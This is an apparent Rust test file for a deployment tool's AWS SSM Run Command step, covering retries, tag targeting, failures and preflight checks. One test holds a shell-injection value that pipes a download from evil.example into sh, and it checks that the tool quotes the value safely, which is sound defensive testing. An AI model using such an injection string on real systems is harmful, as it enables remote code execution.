//! `ssm.command` against moto, where Run Command finishes at once.

use catalog::ErrorName;
use serde_json::json;

use crate::{Aws, Step, error, output, str_of};

/// The mocked answers' ids, shaped as AWS's: the model check refuses a request naming `cmd-1` or `i-1` (a
/// command id is a UUID; an instance id is `i-` and 17 hex digits).
const COMMAND: &str = "0b7a2f1e-5c3d-4e6f-8a9b-0c1d2e3f4a5b";
const HOST_A: &str = "i-0a1b2c3d4e5f60718";
const HOST_B: &str = "i-0a1b2c3d4e5f60719";

#[tokio::test]
async fn runs_the_commands_with_run_shell_script_and_reports_the_command() {
    let aws = Aws::start().await;
    let id = aws.ec2_instance().await;
    let step = Step::new(
        "ssm.command",
        json!({"instance_ids": [id], "commands": ["systemctl restart app", "app --version", "echo ${PATH}"], "working_directory": "/srv/app"}),
    );
    let out = output(step.run(&aws).await);
    let command_id = str_of(&out, "command_id");
    let listed = aws
        .clients
        .aws(aws_sdk_ssm::Client::new)
        .list_commands()
        .command_id(command_id)
        .send()
        .await
        .expect("list");
    let command = &listed.commands()[0];
    assert_eq!(command.document_name(), Some("AWS-RunShellScript"));
    assert_eq!(command.instance_ids(), [id.as_str()]);
    let parameters = command.parameters().expect("parameters");
    assert_eq!(
        parameters["commands"],
        ["systemctl restart app", "app --version", "echo ${PATH}"],
        "Run Command gets the commands verbatim, shell variables included"
    );
    assert_eq!(parameters["workingDirectory"], ["/srv/app"]);
    assert!(str_of(&out, "output").contains(&id), "{out:?}");
}

/// A hostile `to_version`, as the state machine sends it for `"export TAG=${input.to_version}"` (text and value
/// apart): the script that Run Command records assigns it to a variable in single quotes and reads the variable
/// where the reference was written, so the shell never parses it.
#[tokio::test]
async fn a_hostile_value_reaches_run_command_as_data() {
    let aws = Aws::start().await;
    let id = aws.ec2_instance().await;
    let hostile = "v1'; curl https://evil.example/x | sh; echo '";
    let step = Step::new(
        "ssm.command",
        json!({"instance_ids": [id], "commands": [["export TAG=", hostile, ""], "docker-compose up -d"]}),
    );
    let out = output(step.run(&aws).await);
    let listed = aws
        .clients
        .aws(aws_sdk_ssm::Client::new)
        .list_commands()
        .command_id(str_of(&out, "command_id"))
        .send()
        .await
        .expect("list");
    let parameters = listed.commands()[0].parameters().expect("parameters");
    assert_eq!(
        parameters["commands"],
        [
            r#"STEPBACK_VALUE_1='v1'\''; curl https://evil.example/x | sh; echo '\'''"#,
            r#"export TAG="${STEPBACK_VALUE_1}""#,
            "docker-compose up -d",
        ]
    );
}

#[tokio::test]
async fn a_retried_start_sends_the_command_once() {
    let aws = Aws::start().await;
    let id = aws.ec2_instance().await;
    let step = Step::new(
        "ssm.command",
        json!({"instance_ids": [id], "commands": ["./migrate.sh"]}),
    );
    let first = step.start(&aws).await.expect("first start");
    let second = step.start(&aws).await.expect("retried start");
    assert_eq!(first.state, second.state);
    let listed = aws
        .clients
        .aws(aws_sdk_ssm::Client::new)
        .list_commands()
        .send()
        .await
        .expect("list");
    assert_eq!(listed.commands().len(), 1);
    // The next execution runs it again.
    step.in_execution("run-2")
        .start(&aws)
        .await
        .expect("another execution");
    assert_eq!(
        aws.clients
            .aws(aws_sdk_ssm::Client::new)
            .list_commands()
            .send()
            .await
            .expect("list")
            .commands()
            .len(),
        2
    );
}

#[tokio::test]
async fn instances_and_tags_together_are_invalid_input() {
    let aws = Aws::start().await;
    let step = Step::new(
        "ssm.command",
        json!({"instance_ids": [HOST_A], "tags": {"role": "web"}, "commands": ["true"]}),
    );
    let failure = error(step.start(&aws).await);
    assert_eq!(failure.name, ErrorName::InvalidInput, "{failure}");
}

/// moto's commands always succeed; a failing script comes from aws-smithy-mocks.
#[tokio::test]
async fn a_failed_script_fails_the_poll_with_its_output() {
    use aws_sdk_ssm::Client;
    use aws_sdk_ssm::operation::get_command_invocation::GetCommandInvocationOutput;
    use aws_sdk_ssm::operation::list_commands::ListCommandsOutput;
    use aws_sdk_ssm::types::{Command, CommandInvocationStatus, CommandStatus};
    use aws_smithy_mocks::{RuleMode, mock};
    use ::tests::mock_client;

    let listed = mock!(Client::list_commands).then_output(|| {
        let command = Command::builder()
            .command_id(COMMAND)
            .status(CommandStatus::Failed)
            .instance_ids(HOST_A)
            .target_count(1)
            .error_count(1)
            .build();
        ListCommandsOutput::builder().commands(command).build()
    });
    let invocation = mock!(Client::get_command_invocation)
        .match_requests(|r| r.command_id() == Some(COMMAND) && r.instance_id() == Some(HOST_A))
        .then_output(|| {
            GetCommandInvocationOutput::builder()
                .status(CommandInvocationStatus::Failed)
                .standard_output_content("migration 42 failed: relation \"orders\" is locked")
                .build()
        });
    let aws = Aws::start().await;
    let recorded = aws.recorder.mocked();
    aws.clients.insert(mock_client!(
        aws_sdk_ssm,
        RuleMode::MatchAny,
        [&listed, &invocation],
        |c| c.http_client(recorded.clone())
    ));
    let step = Step::new(
        "ssm.command",
        json!({"instance_ids": [HOST_A], "commands": ["./migrate.sh"]}),
    );
    let (error, cause) =
        crate::failure(step.poll(&aws, Some(&json!({"command_id": COMMAND}))).await);
    assert_eq!(error, "Stepback.Failed");
    assert!(
        cause.contains(COMMAND) && cause.contains("relation \"orders\" is locked"),
        "{cause}"
    );
}

/// `stepback preflight`'s check: every named instance reports to SSM. moto 5.2.5 has no
/// DescribeInstanceInformation, so SSM's answer comes from aws-smithy-mocks, behind the read-only guard.
#[tokio::test]
async fn the_check_names_the_instances_ssm_does_not_manage() {
    use aws_sdk_ssm::Client;
    use aws_sdk_ssm::operation::describe_instance_information::DescribeInstanceInformationOutput;
    use aws_sdk_ssm::types::InstanceInformation;
    use aws_smithy_mocks::{RuleMode, mock};
    use ::tests::mock_client;

    let managed = mock!(Client::describe_instance_information).then_output(|| {
        DescribeInstanceInformationOutput::builder()
            .instance_information_list(InstanceInformation::builder().instance_id(HOST_A).build())
            .build()
    });
    let aws = Aws::start().await;
    aws.clients.read_only().insert(mock_client!(
        aws_sdk_ssm,
        RuleMode::Sequential,
        [&managed],
        |c| c.http_client(lambdas::read_only::ReadOnly::new(
            aws_smithy_runtime_api::client::http::SharedHttpClient::new(aws.recorder.mocked())
        ))
    ));
    let step = Step::new(
        "ssm.command",
        json!({"instance_ids": [HOST_A, HOST_B], "commands": ["./migrate.sh"]}),
    );
    let out = output(crate::invoke(&aws, "ssm.command", step.payload("check", None)).await);
    let findings = &out["findings"];
    assert_eq!(findings[0]["verdict"], "not_ready", "{findings}");
    assert_eq!(
        findings[0]["detail"],
        format!("not managed by SSM: {HOST_B}"),
        "{findings}"
    );
    assert!(
        findings[0]["fix"]
            .as_str()
            .is_some_and(|fix| fix.contains("AmazonSSMManagedInstanceCore")),
        "{findings}"
    );
    assert_eq!(managed.num_calls(), 1);
}

/// moto 5.2.5 lacks ListCommandInvocations, which names the instances of a command sent to tags; the SDK gets
/// AWS's answers from aws-smithy-mocks.
#[tokio::test]
async fn a_command_sent_to_tags_reports_each_instance_it_ran_on() {
    use aws_sdk_ssm::Client;
    use aws_sdk_ssm::operation::get_command_invocation::GetCommandInvocationOutput;
    use aws_sdk_ssm::operation::list_command_invocations::ListCommandInvocationsOutput;
    use aws_sdk_ssm::operation::list_commands::ListCommandsOutput;
    use aws_sdk_ssm::operation::send_command::SendCommandOutput;
    use aws_sdk_ssm::types::{Command, CommandInvocation, CommandInvocationStatus, CommandStatus};
    use aws_smithy_mocks::{RuleMode, mock};
    use ::tests::mock_client;

    let none_sent = mock!(Client::list_commands)
        .match_requests(|r| r.command_id().is_none())
        .then_output(|| ListCommandsOutput::builder().build());
    let sent = mock!(Client::send_command)
        .match_requests(|r| {
            r.instance_ids().is_empty()
                && r.targets()
                    .first()
                    .is_some_and(|t| t.key() == Some("tag:role") && t.values() == ["web"])
        })
        .then_output(|| {
            let command = Command::builder().command_id(COMMAND).build();
            SendCommandOutput::builder().command(command).build()
        });
    let finished = mock!(Client::list_commands)
        .match_requests(|r| r.command_id() == Some(COMMAND))
        .then_output(|| {
            let command = Command::builder()
                .command_id(COMMAND)
                .status(CommandStatus::Success)
                .target_count(2)
                .completed_count(2)
                .build();
            ListCommandsOutput::builder().commands(command).build()
        });
    let invocations = mock!(Client::list_command_invocations)
        .match_requests(|r| r.command_id() == Some(COMMAND))
        .then_output(|| {
            let on = |id: &str| CommandInvocation::builder().instance_id(id).build();
            ListCommandInvocationsOutput::builder()
                .command_invocations(on(HOST_A))
                .command_invocations(on(HOST_B))
                .build()
        });
    let answer = |instance: &'static str| {
        mock!(Client::get_command_invocation)
            .match_requests(move |r| r.instance_id() == Some(instance))
            .then_output(move || {
                GetCommandInvocationOutput::builder()
                    .status(CommandInvocationStatus::Success)
                    .standard_output_content(format!("restarted on {instance}"))
                    .build()
            })
    };
    let (first, second) = (answer(HOST_A), answer(HOST_B));
    let aws = Aws::start().await;
    let recorded = aws.recorder.mocked();
    aws.clients.insert(mock_client!(
        aws_sdk_ssm,
        RuleMode::MatchAny,
        [&none_sent, &sent, &finished, &invocations, &first, &second],
        |c| c.http_client(recorded.clone())
    ));
    let step = Step::new(
        "ssm.command",
        json!({"tags": {"role": "web"}, "commands": ["systemctl restart app"]}),
    );
    let out = output(step.run(&aws).await);
    assert_eq!(str_of(&out, "command_id"), COMMAND);
    let text = str_of(&out, "output");
    assert!(
        text.contains(&format!("restarted on {HOST_A}"))
            && text.contains(&format!("restarted on {HOST_B}")),
        "{text}"
    );
    assert_eq!(sent.num_calls(), 1);
}
